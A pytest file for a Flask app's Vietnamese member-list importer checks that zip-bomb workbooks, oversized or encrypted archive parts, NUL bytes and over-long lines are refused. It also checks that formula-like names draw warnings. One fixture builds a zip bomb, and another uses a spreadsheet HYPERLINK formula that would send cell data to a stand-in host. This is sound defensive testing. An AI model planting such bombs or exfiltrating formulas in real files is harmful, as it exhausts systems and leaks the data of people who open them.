"""A member file is looked at before it is parsed (zip bombs, endless lines, NUL bytes), a name a
spreadsheet would run as a formula is warned about, and one person never gets two accounts."""
from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa
from flask import Flask
from flask_babel import force_locale

from learnhub.auth.models import User
from learnhub.extensions import db
from learnhub.members import filecheck, importer
from learnhub.members.importer import plan_member_import
from learnhub.orgs.models import Unit
from tests.conftest import login, post
from tests.members.member_files import read_member_file
from tests.members.test_importfile import write_xlsx

HEADER = ["Họ và tên", "Chi bộ", "Ngày sinh", "Số thẻ đảng viên"]
BOMB_MESSAGE = "the workbook unpacks to far more than its own size, as no spreadsheet does: it was refused"


def padded_workbook(path: Path, padding: int) -> Path:
    """A real member list whose worksheet also holds ``padding`` spaces between its rows: valid XML
    that openpyxl reads (slowly, holding it) and that deflates about a thousand times."""
    plain = write_xlsx(path.with_suffix(".plain.xlsx"), [HEADER, ["Nguyễn Văn Hải", "Chi bộ Khu phố 1", "01/02/1980"]])
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<sheetData>", b"<sheetData>" + b" " * padding)
            bomb.writestr(info.filename, data, compresslevel=9)
    return path


def members(app: Flask) -> int:
    with app.app_context():
        return db.session.scalar(sa.select(sa.func.count()).select_from(User))


def test_a_zip_bomb_workbook_is_refused_before_openpyxl_reads_it(tmp_path: Path, monkeypatch) -> None:
    bomb = padded_workbook(tmp_path / "bom.xlsx", 20 * 1024 * 1024)
    assert bomb.stat().st_size < 100_000
    opened = []
    monkeypatch.setattr("learnhub.members.importfile.load_workbook", lambda *a, **k: opened.append(a))
    parsed = read_member_file(bomb)
    assert [(p.row, str(p.message)) for p in parsed.problems] == [(1, BOMB_MESSAGE)]
    assert opened == [] and parsed.rows == []


@pytest.mark.parametrize("entries, expected", [
    ({f"x/{n}.xml": b"<a/>" for n in range(201)}, "the workbook holds more than 200 parts: it is not a member list"),
    ({"xl/sharedStrings.xml": bytes(range(256)) * 200_000}, "a part of the workbook unpacks to more than 32 MB: "
                                                            "split the list into smaller files"),
])
def test_workbooks_with_too_many_or_too_large_parts_are_refused(tmp_path: Path, entries, expected) -> None:
    path = tmp_path / "ds.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    assert [str(p.message) for p in read_member_file(path).problems] == [expected]


def test_an_encrypted_workbook_part_is_refused(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        archive.infolist()[-1].flag_bits |= 0x1
    path = tmp_path / "ds.xlsx"
    path.write_bytes(buffer.getvalue())
    assert [str(p.message) for p in read_member_file(path).problems] == [
        "the workbook is protected by a password: save it without one"]


def test_the_cli_refuses_a_bomb_in_one_line_and_the_browser_in_vietnamese(app: Flask, client, town, tmp_path: Path) -> None:
    bomb = padded_workbook(tmp_path / "bom.xlsx", 20 * 1024 * 1024)
    before = members(app)
    result = app.test_cli_runner().invoke(args=["members", "import", str(bomb)])
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [f"{bomb}:1: {BOMB_MESSAGE}"]
    login(client, "bithu1")
    with bomb.open("rb") as handle:
        preview = post(client, "/members/import/", {"file": (handle, "bom.xlsx"), "unit": town["a"].id},
                       content_type="multipart/form-data").headers["Location"]
    html = client.get(preview).get_data(as_text=True)
    assert "bảng tính giải nén ra lớn hơn rất nhiều so với kích thước của nó" in html
    assert members(app) == before


@pytest.mark.parametrize("content, expected", [
    ("Họ và tên\nNguyễn Văn Hải\x00\n", "line 2 holds a NUL character: in Excel use 'Save as… CSV UTF-8'"),
    ("Họ và tên\n" + "A" * 70_000 + "\n", "line 2 is longer than 65536 characters: is this a member list?"),
    ("Họ và tên," + "x" * 70_000, "line 1 is longer than 65536 characters: is this a member list?"),
])
def test_csv_lines_are_bounded_and_nul_bytes_refused(tmp_path: Path, content: str, expected: str) -> None:
    path = tmp_path / "ds.csv"
    path.write_text(content, encoding="utf-8")
    assert [str(p.message) for p in read_member_file(path).problems] == [expected]


def test_a_file_too_large_is_refused_unread(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(filecheck, "MAX_FILE_BYTES", 1024)
    path = tmp_path / "ds.csv"
    path.write_text("Họ và tên\n" + "Nguyễn Văn Hải\n" * 100, encoding="utf-8")
    assert [str(p.message) for p in read_member_file(path).problems] == [
        "the file is larger than 1 KB: split the list into smaller files"]


def test_formula_like_names_are_imported_with_a_warning(app: Flask, client, town, tmp_path: Path) -> None:
    path = tmp_path / "ds.csv"
    path.write_text('Họ và tên\n"=HYPERLINK(""http://x/?""&A1,""Bấm"")"\n@Lê Văn Cường\nTrần Thị Mai\n', encoding="utf-8")
    login(client, "bithu1")
    with path.open("rb") as handle:
        preview = post(client, "/members/import/", {"file": (handle, "ds.csv"), "unit": town["a"].id},
                       content_type="multipart/form-data").headers["Location"]
    html = client.get(preview).get_data(as_text=True)
    assert "2 tên bắt đầu bằng =, +, -, hoặc @" in html
    assert "Dòng 2: =HYPERLINK(&#34;http://x/?&#34;&amp;A1,&#34;Bấm&#34;)" in html and "Dòng 3: @Lê Văn Cường" in html
    assert post(client, preview).status_code == 302  # accepted all the same
    with app.app_context():
        assert db.session.scalar(sa.select(User.id).where(User.full_name == '=HYPERLINK("http://x/?"&A1,"Bấm")'))


def test_an_exported_csv_imports_again_unchanged(app: Flask, client, town, tmp_path: Path) -> None:
    with app.app_context():
        db.session.get(User, town["member_b"].id).full_name = "=1+1 Hoàng Thị Bình"
        db.session.commit()
    login(client, "bithu2")
    path = tmp_path / "xuat.csv"
    path.write_bytes(client.get("/members/export.csv").data)
    result = app.test_cli_runner().invoke(args=["members", "import", str(path), "--dry-run"])
    assert result.exit_code == 0, result.stderr
    assert "0 new, 0 to update" in result.stderr and "warning: the name '=1+1 Hoàng Thị Bình'" in result.stderr


def test_one_person_twice_in_a_file_is_a_row_error_naming_the_first_row(app: Flask, town, tmp_path: Path) -> None:
    path = tmp_path / "ds.csv"
    path.write_text("Họ và tên,Chi bộ,Ngày sinh,Số thẻ đảng viên\n"
                    "Đỗ Lưu Văn,Chi bộ Khu phố 1,02/03/1970,\n"
                    "Trần Thị Mai,Chi bộ Khu phố 1,02/03/1970,\n"
                    "Đỗ Lưu Văn,Chi bộ Khu phố 2,02/03/1970,\n", encoding="utf-8")
    before = members(app)
    result = app.test_cli_runner().invoke(args=["members", "import", str(path)])
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        f"{path}:4: Họ và tên: the same full name and date of birth as row 2: one person, one row "
        "(two people with both the same need a username or party card number each)")
    assert members(app) == before


def test_the_same_person_is_found_across_chunks_and_two_cards_are_two_people(app: Flask, town, tmp_path: Path,
                                                                             monkeypatch) -> None:
    monkeypatch.setattr(importer, "CHUNK_ROWS", 2)
    path = tmp_path / "ds.csv"
    path.write_text("Họ và tên,Ngày sinh,Số thẻ đảng viên\n"
                    "Đỗ Lưu Văn,02/03/1970,001\n"
                    "Đỗ Lưu Văn,02/03/1970,002\n"  # another card: another person
                    "Trần Thị Mai,01/01/1980,\n"
                    "Lê Văn Cường,01/01/1980,\n"
                    "Đỗ Lưu Văn,02/03/1970,\n"  # no card: the person on row 2 (their matching key)
                    "Đỗ Lưu Văn,,\n", encoding="utf-8")  # no birth date: matches no one
    with app.app_context(), force_locale("en"):
        plan = plan_member_import(path, filename=path.name, base_unit=db.session.get(Unit, town["root"].id),
                                  viewer=None)
        assert [(p.row, p.message.split(":")[0]) for p in plan.problems] == [
            (6, "the same full name and date of birth as row 2")]
        assert plan.total_rows == 6


def test_control_characters_in_a_name_are_dropped_so_every_export_can_write_it(app: Flask, client, town,
                                                                                tmp_path: Path) -> None:
    path = tmp_path / "ds.csv"
    path.write_text("Họ và tên,Chi bộ\nNguyễn\x01Văn\x0bHải\x1b,Chi bộ Khu phố 1\n", encoding="utf-8")
    result = app.test_cli_runner().invoke(args=["members", "import", str(path)])
    assert result.exit_code == 0, result.stderr
    login(client, "bithu1")
    export = client.get("/members/export.xlsx")
    assert export.status_code == 200
    names = [row[1] for row in openpyxl.load_workbook(io.BytesIO(export.data)).active.iter_rows(values_only=True)]
    assert "Nguyễn Văn Hải" in names
